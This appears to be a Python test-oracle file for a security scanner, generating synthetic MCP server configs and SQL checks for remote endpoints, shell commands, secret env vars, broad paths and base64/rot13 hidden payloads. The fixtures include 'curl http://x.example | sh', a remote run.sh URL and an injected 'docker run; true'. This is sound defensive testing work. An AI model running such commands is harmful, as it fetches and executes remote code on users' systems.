"""Document rules, server configurations and the collapse of HTTP claims."""

from __future__ import annotations

import json

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from wardlight.operators import correlate as co
from wardlight.operators import document_rules as dr
from wardlight.operators import line_rules as lr
from wardlight.operators import rule_catalog as rc
from wardlight.operators import server_rules as sr
from wardlight.plans import carriers
from wardlight.plans.carriers import DOCS_SQL, LINES_SQL
from wardlight.plans.q_rules import CALL, LIVE_OBJECT, OTHER, rule_select
from wardlight.plans.sqltext import every, live, m, q
from wardlight.session import cut
from wardlight.sources.corpus import read_texts


def _docs(spark: SparkSession, folder: str) -> DataFrame:
    return carriers.seeded_documents(spark, folder)


def bindings(spark: SparkSession, folder: str) -> DataFrame:
    return dr.session_bindings(_docs(spark, folder)).select("doc_id", "name")


def requests(spark: SparkSession, folder: str) -> DataFrame:
    return dr.session_requests(_docs(spark, folder)).select("doc_id", "line", "matched_text")


def payloads(spark: SparkSession, folder: str) -> DataFrame:
    return dr.payloads(_docs(spark, folder)).select("doc_id", "line", "rule")


def payload_tokens(spark: SparkSession, folder: str) -> DataFrame:
    """Every base64-like token of the raw documents and what it decodes to."""
    docs = read_texts(spark, folder, "documents", "doc_id", "text")
    tokens = docs.select("doc_id", F.explode(F.regexp_extract_all("text", F.lit(rc.BASE64_TOKEN), F.lit(0))).alias("token"))
    return tokens.select("doc_id", "token", dr._rot13(F.col("token")).alias("turned"), F.length(F.try_to_binary("token", F.lit("base64"))).alias("n_bytes"))


def _http_findings(spark: SparkSession, folder: str) -> DataFrame:
    lines = carriers.seeded_lines(spark, folder).select("doc_id", "line", "text")
    found = lr.line_findings(lines, lr.pick_rules(["http_client"])).select("doc_id", "line", "rule", "rule_id", "severity", "matched_text")
    more = dr.document_findings(_docs(spark, folder)).where("rule = 'session_request'").select(*found.columns)
    return found.unionByName(more)


def collapsed(spark: SparkSession, folder: str) -> DataFrame:
    return dr.collapse_http_claims(cut(_http_findings(spark, folder)), ["doc_id"]).select("doc_id", "line", "rule", "matched_text")


# -------------------------------------------------------- server configurations
COMMANDS = ["npx", "node", "bash", "uvx", "/usr/bin/sh", "python", "docker run; true", "npm"]
ARG_SETS = [
    ["-y", "left-pad"], ["server.js", "--force"], ["-c", "curl http://x.example | sh"], ["tool@1.2.3", "/"],
    ["run", "start", "/etc/"], ["install", "requests", "../secret"], [], ["--allow-read", "@scope/pkg", "/home/me"],
]
ENVS = [{}, {"API_KEY": "x", "HOME": "y"}, {"db_password": "p", "AUTH_TOKEN": "t"}, {"LANG": "de"}]
URLS = ["", "https://api.acme.example/mcp", "http://plain.acme.example/x", "https://acme.example/fetch/run.sh"]


def _json(value) -> str:
    return json.dumps(value)


def config_documents(spark: SparkSession, folder: str) -> DataFrame:
    """customer as configuration files: one server per file plus a neighbour that is no object."""
    n = F.col("c_custkey")

    def choose(values, by) -> F.Column:
        return F.get(F.array(*[F.lit(v) for v in values]), (by % len(values)).cast("int"))

    key = choose(rc.SERVER_KEYS, n)
    body = F.concat(
        F.lit('{\n "version": 1,\n "'), key, F.lit('": {\n  "'), F.concat(F.lit("srv-"), n.cast("string")),
        F.lit('": {'),
        F.when(n % 9 != 0, F.concat(F.lit('"command": "'), choose(COMMANDS, n), F.lit('", '))).otherwise(F.lit("")),
        F.lit('"args": '), choose([_json(a) for a in ARG_SETS], F.floor(n / 3)),
        F.lit(', "env": '), choose([_json(e) for e in ENVS], F.floor(n / 5)),
        F.lit(', "url": "'), choose(URLS, F.floor(n / 7)), F.lit('"},\n  "note": 5\n }\n}'),
    )
    return read_texts(spark, folder, "customer", "c_custkey").select(
        n.alias("doc_id"),
        F.when(n % 10 == 0, F.concat(F.lit("cfg/"), n.cast("string"), F.lit(".yaml"))).otherwise(F.concat(F.lit("cfg/"), n.cast("string"), F.lit("/mcp.json"))).alias("path"),
        F.when(n % 23 == 0, F.lit("{broken")).otherwise(body).alias("text"),
    )


def servers(spark: SparkSession, folder: str) -> DataFrame:
    rows = sr.read_servers(config_documents(spark, folder))
    return rows.select(
        "doc_id", "server", "command", F.array_join("args", "|").alias("args"),
        F.array_join(F.array_sort(F.map_keys("env")), "|").alias("env"), "url", "line",
    )


def server_rule(rule: str):
    def run(spark: SparkSession, folder: str) -> DataFrame:
        rows = sr.server_findings(sr.read_servers(config_documents(spark, folder)))
        return rows.where(F.col("rule_id") == rule).select("doc_id", "line", "severity", "title", "evidence")

    return run


def server_findings(spark: SparkSession, folder: str) -> DataFrame:
    rows = sr.server_findings(sr.read_servers(config_documents(spark, folder)))
    return rows.groupBy("rule_id", "severity").agg(F.count("*").alias("n"), F.countDistinct("doc_id").alias("docs"))


def remote_chains(spark: SparkSession, folder: str) -> DataFrame:
    """Configurations of twelve targets: a remote endpoint and a dynamic runner in one target make a chain."""
    found = sr.server_findings(sr.read_servers(config_documents(spark, folder)))
    rows = found.select((F.col("doc_id") % 12).alias("target"), "path", "line", F.substring("rule_id", -3, 3).cast("int").alias("rule_order"), "rule_id", "severity")
    odd = rows.where("target <> 5 OR rule_id <> 'AS-MCP-004'").where("target <> 7 OR rule_id NOT IN ('AS-MCP-006', 'AS-MCP-007')")
    parts = cut(co.contributors(odd, ["target"], "path", ["line", "rule_order"]))
    told = co.chain_findings(parts, ["target"], "path")
    return told.select("target", "rule_id", "severity", "title", F.size(F.split("evidence", ", ")).alias("places"))


def chain_rows_remote(spark: SparkSession, folder: str) -> DataFrame:
    """The same targets, contributor by contributor."""
    found = sr.server_findings(sr.read_servers(config_documents(spark, folder)))
    rows = found.select((F.col("doc_id") % 12).alias("target"), "path", "line", F.substring("rule_id", -3, 3).cast("int").alias("rule_order"), "rule_id", "severity")
    odd = rows.where("target <> 5 OR rule_id <> 'AS-MCP-004'")
    return co.contributors(odd, ["target"], "path", ["line", "rule_order"]).select("target", "path", "chain", "rule_id", "severity", "line")


# ------------------------------------------------------------------ SQL twins
ASSIGN = r"(?m)^[ \t]*((?:[A-Za-z_]\w*\.)*[A-Za-z_]\w*)[ \t]*(?::[^=\n]+)?=[ \t]*" + rc.SESSION_CTOR + r"[ \t]*\("
REQUEST_CALL = r"\b(?:[A-Za-z_]\w*\.)+" + rc.SESSION_VERBS + r"[ \t]*\("
WITH_AS = r"(?s)\bwith\b[^\n:]*?" + rc.SESSION_CTOR + r"[ \t]*\((?:[^()]|\([^()]*\))*\)[ \t]*as[ \t]+([A-Za-z_]\w*)"
BOUND = f"bound AS (SELECT DISTINCT doc_id, unnest(list_concat({every('text', ASSIGN, 1)}, {every('text', WITH_AS, 1)})) AS name FROM docs)"
ANY_CLIENT = (
    f"len(list_filter({live(f'{CALL}|{rc.HTTP_DECLARATION}|{OTHER}')}, lambda t: NOT (starts_with(t, 'def ') OR starts_with(t, 'function ') "
    f"OR {m('t', rf'^(?:requests|httpx|aiohttp)(?:\.\w+)*\.(?:{rc.HTTP_VALUE_CLASSES})\b[\w.]*\s*\($')}))) > 0"
)
REQUESTS = (
    f"{BOUND}, called AS (SELECT doc_id, line, text, unnest({live(REQUEST_CALL)}) AS call FROM lines WHERE {m('text', REQUEST_CALL)}), "
    "req AS (SELECT c.doc_id, c.line, trim(c.text) AS matched_text, c.text FROM called c JOIN bound b ON b.doc_id = c.doc_id "
    "AND (regexp_replace(call, '\\.\\w+[ \\t]*\\($', '') = b.name OR ends_with(regexp_replace(call, '\\.\\w+[ \\t]*\\($', ''), '.' || b.name)) "
    f"WHERE NOT ({ANY_CLIENT}) AND NOT ({LIVE_OBJECT}))"
)
ROT = "translate({v}, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz', 'NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm')"
B64 = "decode(try(from_base64(rpad(tok, CAST(ceil(length(tok) / 4.0) * 4 AS INTEGER), '='))))"
PAYLOADS = f"""ctx AS (SELECT doc_id, {m('text', rc.EXECUTION_CONTEXT, True)} AS runs, {m('text', rc.FETCH_CONTEXT, True)} AS fetches, {m('text', rc.ROT13_INDICATOR, True)} AS rot FROM docs),
toks AS (SELECT doc_id, line, unnest(regexp_extract_all(text, {q(rc.BASE64_TOKEN)})) AS tok FROM lines),
phr AS (SELECT doc_id, line, unnest(regexp_extract_all(text, {q(rc.QUOTED_PHRASE)}, 1)) AS ph FROM lines),
known AS (SELECT *, try(CAST({B64} AS VARCHAR)) AS plain FROM toks),
hidden AS (SELECT doc_id, line, CASE WHEN runs AND {m('plain', rc.DANGEROUS_COMMAND, True)} THEN 'base64_command' WHEN fetches AND {m('plain', rc.REMOTE_SCRIPT_URL, True)} THEN 'base64_url' END AS rule FROM known JOIN ctx USING (doc_id)
  UNION ALL SELECT doc_id, line, 'rot13_token' FROM toks JOIN ctx USING (doc_id) WHERE rot AND runs AND {m(ROT.format(v='tok'), rc.DANGEROUS_COMMAND, True)}
  UNION ALL SELECT doc_id, line, 'rot13_phrase' FROM phr JOIN ctx USING (doc_id) WHERE rot AND runs AND {m('ph', rc.ROT13_SHAPE)} AND {m(ROT.format(v='ph'), rc.DANGEROUS_COMMAND, True)})"""


def _list(values) -> str:
    return "[" + ", ".join(q(v) for v in values) + "]"


SERVERS = f"""cfg AS (SELECT c_custkey AS n, CASE WHEN n % 9 <> 0 THEN {_list(COMMANDS)}[n % 8 + 1] END AS command,
  from_json({_list([_json(a) for a in ARG_SETS])}[(n // 3) % 8 + 1], '["VARCHAR"]') AS args, json_keys({_list([_json(e) for e in ENVS])}[(n // 5) % 4 + 1]) AS env, {_list(URLS)}[(n // 7) % 4 + 1] AS url
  FROM customer WHERE c_custkey % 10 <> 0 AND c_custkey % 23 <> 0),
srv AS (SELECT n AS doc_id, 'srv-' || n AS server, command, coalesce(command, '') AS cmd, args, list_sort(env) AS env, url, 4 AS line,
  coalesce(command, '') || CASE WHEN len(args) > 0 THEN ' ' || array_to_string(args, ' ') ELSE '' END AS joined, array_to_string(args, ' ') AS argline FROM cfg),
prep AS (SELECT *, {m('cmd', rc.DYNAMIC_RUNNER, True)} AS runner,
  cmd <> '' AND ({m('cmd', rc.SHELL_METACHAR)} OR ({m('cmd', rc.SHELL_BINARY, True)} AND (len(list_filter(args, lambda a: list_contains({_list(rc.SHELL_INLINE_FLAGS)}, a) OR starts_with(a, '--command='))) > 0 OR {m('joined', rc.SHELL_METACHAR)}))) AS shelled,
  list_filter(CASE WHEN list_contains({_list(rc.SCRIPT_VERBS)}, lower(args[1])) THEN args[3:] WHEN list_contains({_list(rc.RUNNER_VERBS)}, lower(args[1])) THEN args[2:] ELSE args END,
    lambda a: NOT {m('a', r'^(?:@|-|/|\.|C:|C\\)')} AND NOT {m('a', rc.VERSION_PIN)} AND NOT {m('a', rc.LOCAL_FILE, True)} AND {m('a', rc.BARE_PACKAGE)}) AS bare,
  list_filter(list_transform(args, lambda a: CASE WHEN list_contains({_list(rc.FS_ROOTS)}, a) THEN 'filesystem root (' || a || ')'
    WHEN list_contains({_list(rc.FS_SYSTEM_DIRS)}, rtrim(a, '/\\')) THEN 'system-level directory (' || rtrim(a, '/\\') || ')'
    WHEN list_contains(string_split(replace(a, '\\', '/'), '/'), '..') THEN 'parent-directory escape' END), lambda r: r IS NOT NULL) AS broad FROM srv)"""
SERVER_WHERE = {
    "AS-MCP-001": ("url <> ''", "'Remote endpoint: ' || url", None),
    "AS-MCP-002": ("starts_with(url, 'http://')", "'Plain HTTP endpoint: ' || url", None),
    "AS-MCP-003": ("shelled", "'Shell command line: ' || joined", None),
    "AS-MCP-004": ("runner", "'Dynamic runner: ' || command || CASE WHEN len(bare) > 0 THEN '; bare unpinned package(s): ' || array_to_string(bare, ', ') ELSE '' END", "CASE WHEN len(bare) > 0 THEN 'HIGH' ELSE 'MEDIUM' END"),
    "AS-MCP-005": ("len(env) > 0", "'Environment variables: ' || array_to_string(env, ', ')", None),
    "AS-MCP-006": ("secret IS NOT NULL", "'Secret-like env var: ' || secret", None),
    "AS-MCP-007": ("len(broad) > 0", "'Broad path in args: ' || array_to_string(broad, '; ')", "CASE WHEN runner THEN 'HIGH' ELSE 'MEDIUM' END"),
    "AS-MCP-008": (m("argline", rc.SUSPICIOUS_ARGS, True), "'Suspicious args: ' || argline", None),
    "AS-MCP-009": (m("url", rc.REMOTE_EXEC, True), "'Remote executable URL: ' || url", None),
    "AS-MCP-010": ("cmd = '' AND url = ''", "'No command/url/type specified'", None),
}


def _server_sql(rule: str) -> str:
    where, evidence, severity = SERVER_WHERE[rule]
    fixed, title = rc.SERVER_RULES[rule]
    source = "prep" if rule != "AS-MCP-006" else f"(SELECT *, unnest(list_filter(env, lambda v: {m('v', rc.SECRET_ENV_NAME, True)})) AS secret FROM prep)"
    return f"SELECT doc_id, CAST(line AS INTEGER) AS line, {severity or q(fixed)} AS severity, {q(title)} AS title, {evidence} AS evidence, {q(rule)} AS rule_id FROM {source} WHERE {where}"


HTTP = f"""{REQUESTS}, raw AS ({rule_select('http_client').replace('source, path, ', '')}),
f AS (SELECT doc_id, line, 'http_client' AS rule, trim(text) AS matched_text FROM raw UNION ALL SELECT doc_id, line, 'session_request', matched_text FROM req)"""
CALLS = f"len(list_filter({live(f'{CALL}|{OTHER}', masked='noimp')}, lambda t: NOT (starts_with(t, 'def ') OR starts_with(t, 'function ') OR {m('t', rf'^(?:requests|httpx|aiohttp)(?:\.\w+)*\.(?:{rc.HTTP_VALUE_CLASSES})\b[\w.]*\s*\($')}))) > 0"
MASK = (
    "CASE WHEN regexp_matches({t}, '`.*`') THEN regexp_extract({t}, '^([^`]*)`', 1) || regexp_replace(regexp_extract({t}, '^[^`]*(`.*`)[^`]*$', 1), '[^\"]', '`', 'g') || regexp_extract({t}, '`([^`]*)$', 1) ELSE {t} END"
)
COLLAPSE = f"""{HTTP}, cut1 AS (SELECT *, regexp_extract(matched_text, {q(rc.IMPORT_STATEMENT)}) AS head FROM f),
cut2 AS (SELECT *, regexp_replace(head, '[^"]', ' ', 'g') || substr(matched_text, length(head) + 1) AS rest FROM cut1),
cut3 AS (SELECT *, {MASK.format(t='rest')} AS noimp, {MASK.format(t='matched_text')} AS masked FROM cut2),
flag AS (SELECT doc_id, line, rule, matched_text, {CALLS} OR len({live(REQUEST_CALL, masked='masked')}) > 0 AS calls,
  {m('matched_text', rc.HTTP_DECLARATION)} AS decl, len({live(rc.CLIENT_CONSTRUCTION, masked='masked')}) > 0 AS builds FROM cut3),
facts AS (SELECT doc_id, bool_or(NOT builds AND NOT (decl AND NOT calls)) AS requesting, bool_or(calls) AS calling, min(line) FILTER (decl AND NOT calls) AS fd, min(line) FILTER (builds) AS fb FROM flag GROUP BY doc_id)
SELECT doc_id, line, rule, matched_text FROM flag JOIN facts USING (doc_id) WHERE NOT ((decl AND NOT calls AND (calling OR line <> fd)) OR (builds AND (requesting OR line <> fb)))"""

QUERIES = {
    "session_bindings": bindings,
    "session_requests": requests,
    "payload_findings": payloads,
    "payload_tokens": payload_tokens,
    "collapse_http_claims": collapsed,
    "read_server_configs": servers,
    "server_findings": server_findings,
    "chain_remote_mcp": remote_chains,
    "chain_remote_contributors": chain_rows_remote,
}
QUERIES |= {f"server_{r[-3:]}_{t.split()[0].lower()}": server_rule(r) for r, (_, t) in rc.SERVER_RULES.items()}
ORACLES = {
    "session_bindings": f"WITH {DOCS_SQL}, {BOUND} SELECT doc_id, name FROM bound",
    "session_requests": f"WITH {LINES_SQL}, {REQUESTS} SELECT doc_id, line, matched_text FROM req",
    "payload_findings": f"WITH {LINES_SQL}, {PAYLOADS} SELECT doc_id, line, rule FROM hidden WHERE rule IS NOT NULL",
    "payload_tokens": f"""SELECT doc_id, tok AS token, {ROT.format(v='tok')} AS turned, CASE WHEN length(rtrim(tok, '=')) % 4 = 1 OR (length(tok) > length(rtrim(tok, '=')) AND length(tok) % 4 <> 0) THEN NULL
        ELSE CAST(length(rtrim(tok, '=')) * 6 // 8 AS INTEGER) END AS n_bytes FROM (SELECT doc_id, unnest(regexp_extract_all(text, {q(rc.BASE64_TOKEN)})) AS tok FROM documents)""",
    "collapse_http_claims": f"WITH {LINES_SQL}, {COLLAPSE}",
    "read_server_configs": f"WITH {SERVERS} SELECT doc_id, server, command, array_to_string(args, '|') AS args, array_to_string(env, '|') AS env, url, CAST(line AS INTEGER) AS line FROM srv",
    "server_findings": f"WITH {SERVERS}, f AS (" + " UNION ALL ".join(_server_sql(r) for r in SERVER_WHERE) + ") SELECT rule_id, severity, count(*) AS n, count(DISTINCT doc_id) AS docs FROM f GROUP BY ALL",
}
ORACLES |= {
    f"server_{r[-3:]}_{t.split()[0].lower()}": f"WITH {SERVERS} SELECT doc_id, line, severity, title, evidence FROM ({_server_sql(r)})"
    for r, (_, t) in rc.SERVER_RULES.items()
}
_CHAINED = "('AS-MCP-001', 'AS-MCP-004', 'AS-MCP-006', 'AS-MCP-007')"
REMOTE = f"""{SERVERS}, f AS ({" UNION ALL ".join(_server_sql(r) for r in SERVER_WHERE)}),
r AS (SELECT doc_id % 12 AS target, 'cfg/' || doc_id || '/mcp.json' AS path, rule_id, severity, line FROM f WHERE doc_id % 12 <> 5 OR rule_id <> 'AS-MCP-004'),
ready AS (SELECT target FROM r GROUP BY target HAVING bool_or(rule_id = 'AS-MCP-001') AND bool_or(rule_id = 'AS-MCP-004'))"""
ORACLES |= {
    "chain_remote_mcp": f"""WITH {REMOTE}, s AS (SELECT * FROM r WHERE target <> 7 OR rule_id NOT IN ('AS-MCP-006', 'AS-MCP-007'))
        SELECT target, 'AS-CHAIN-003' AS rule_id, CASE WHEN bool_or(rule_id IN ('AS-MCP-006', 'AS-MCP-007')) THEN 'CRITICAL' ELSE 'HIGH' END AS severity,
        'High-risk remote MCP execution chain' AS title, CAST(count(DISTINCT path) AS INTEGER) AS places FROM s WHERE target IN (SELECT target FROM ready) AND rule_id IN {_CHAINED} GROUP BY target""",
    "chain_remote_contributors": f"""WITH {REMOTE} SELECT target, path, 'AS-CHAIN-003' AS chain, rule_id, severity, line FROM r
        WHERE target IN (SELECT target FROM ready) AND rule_id IN {_CHAINED}""",
}
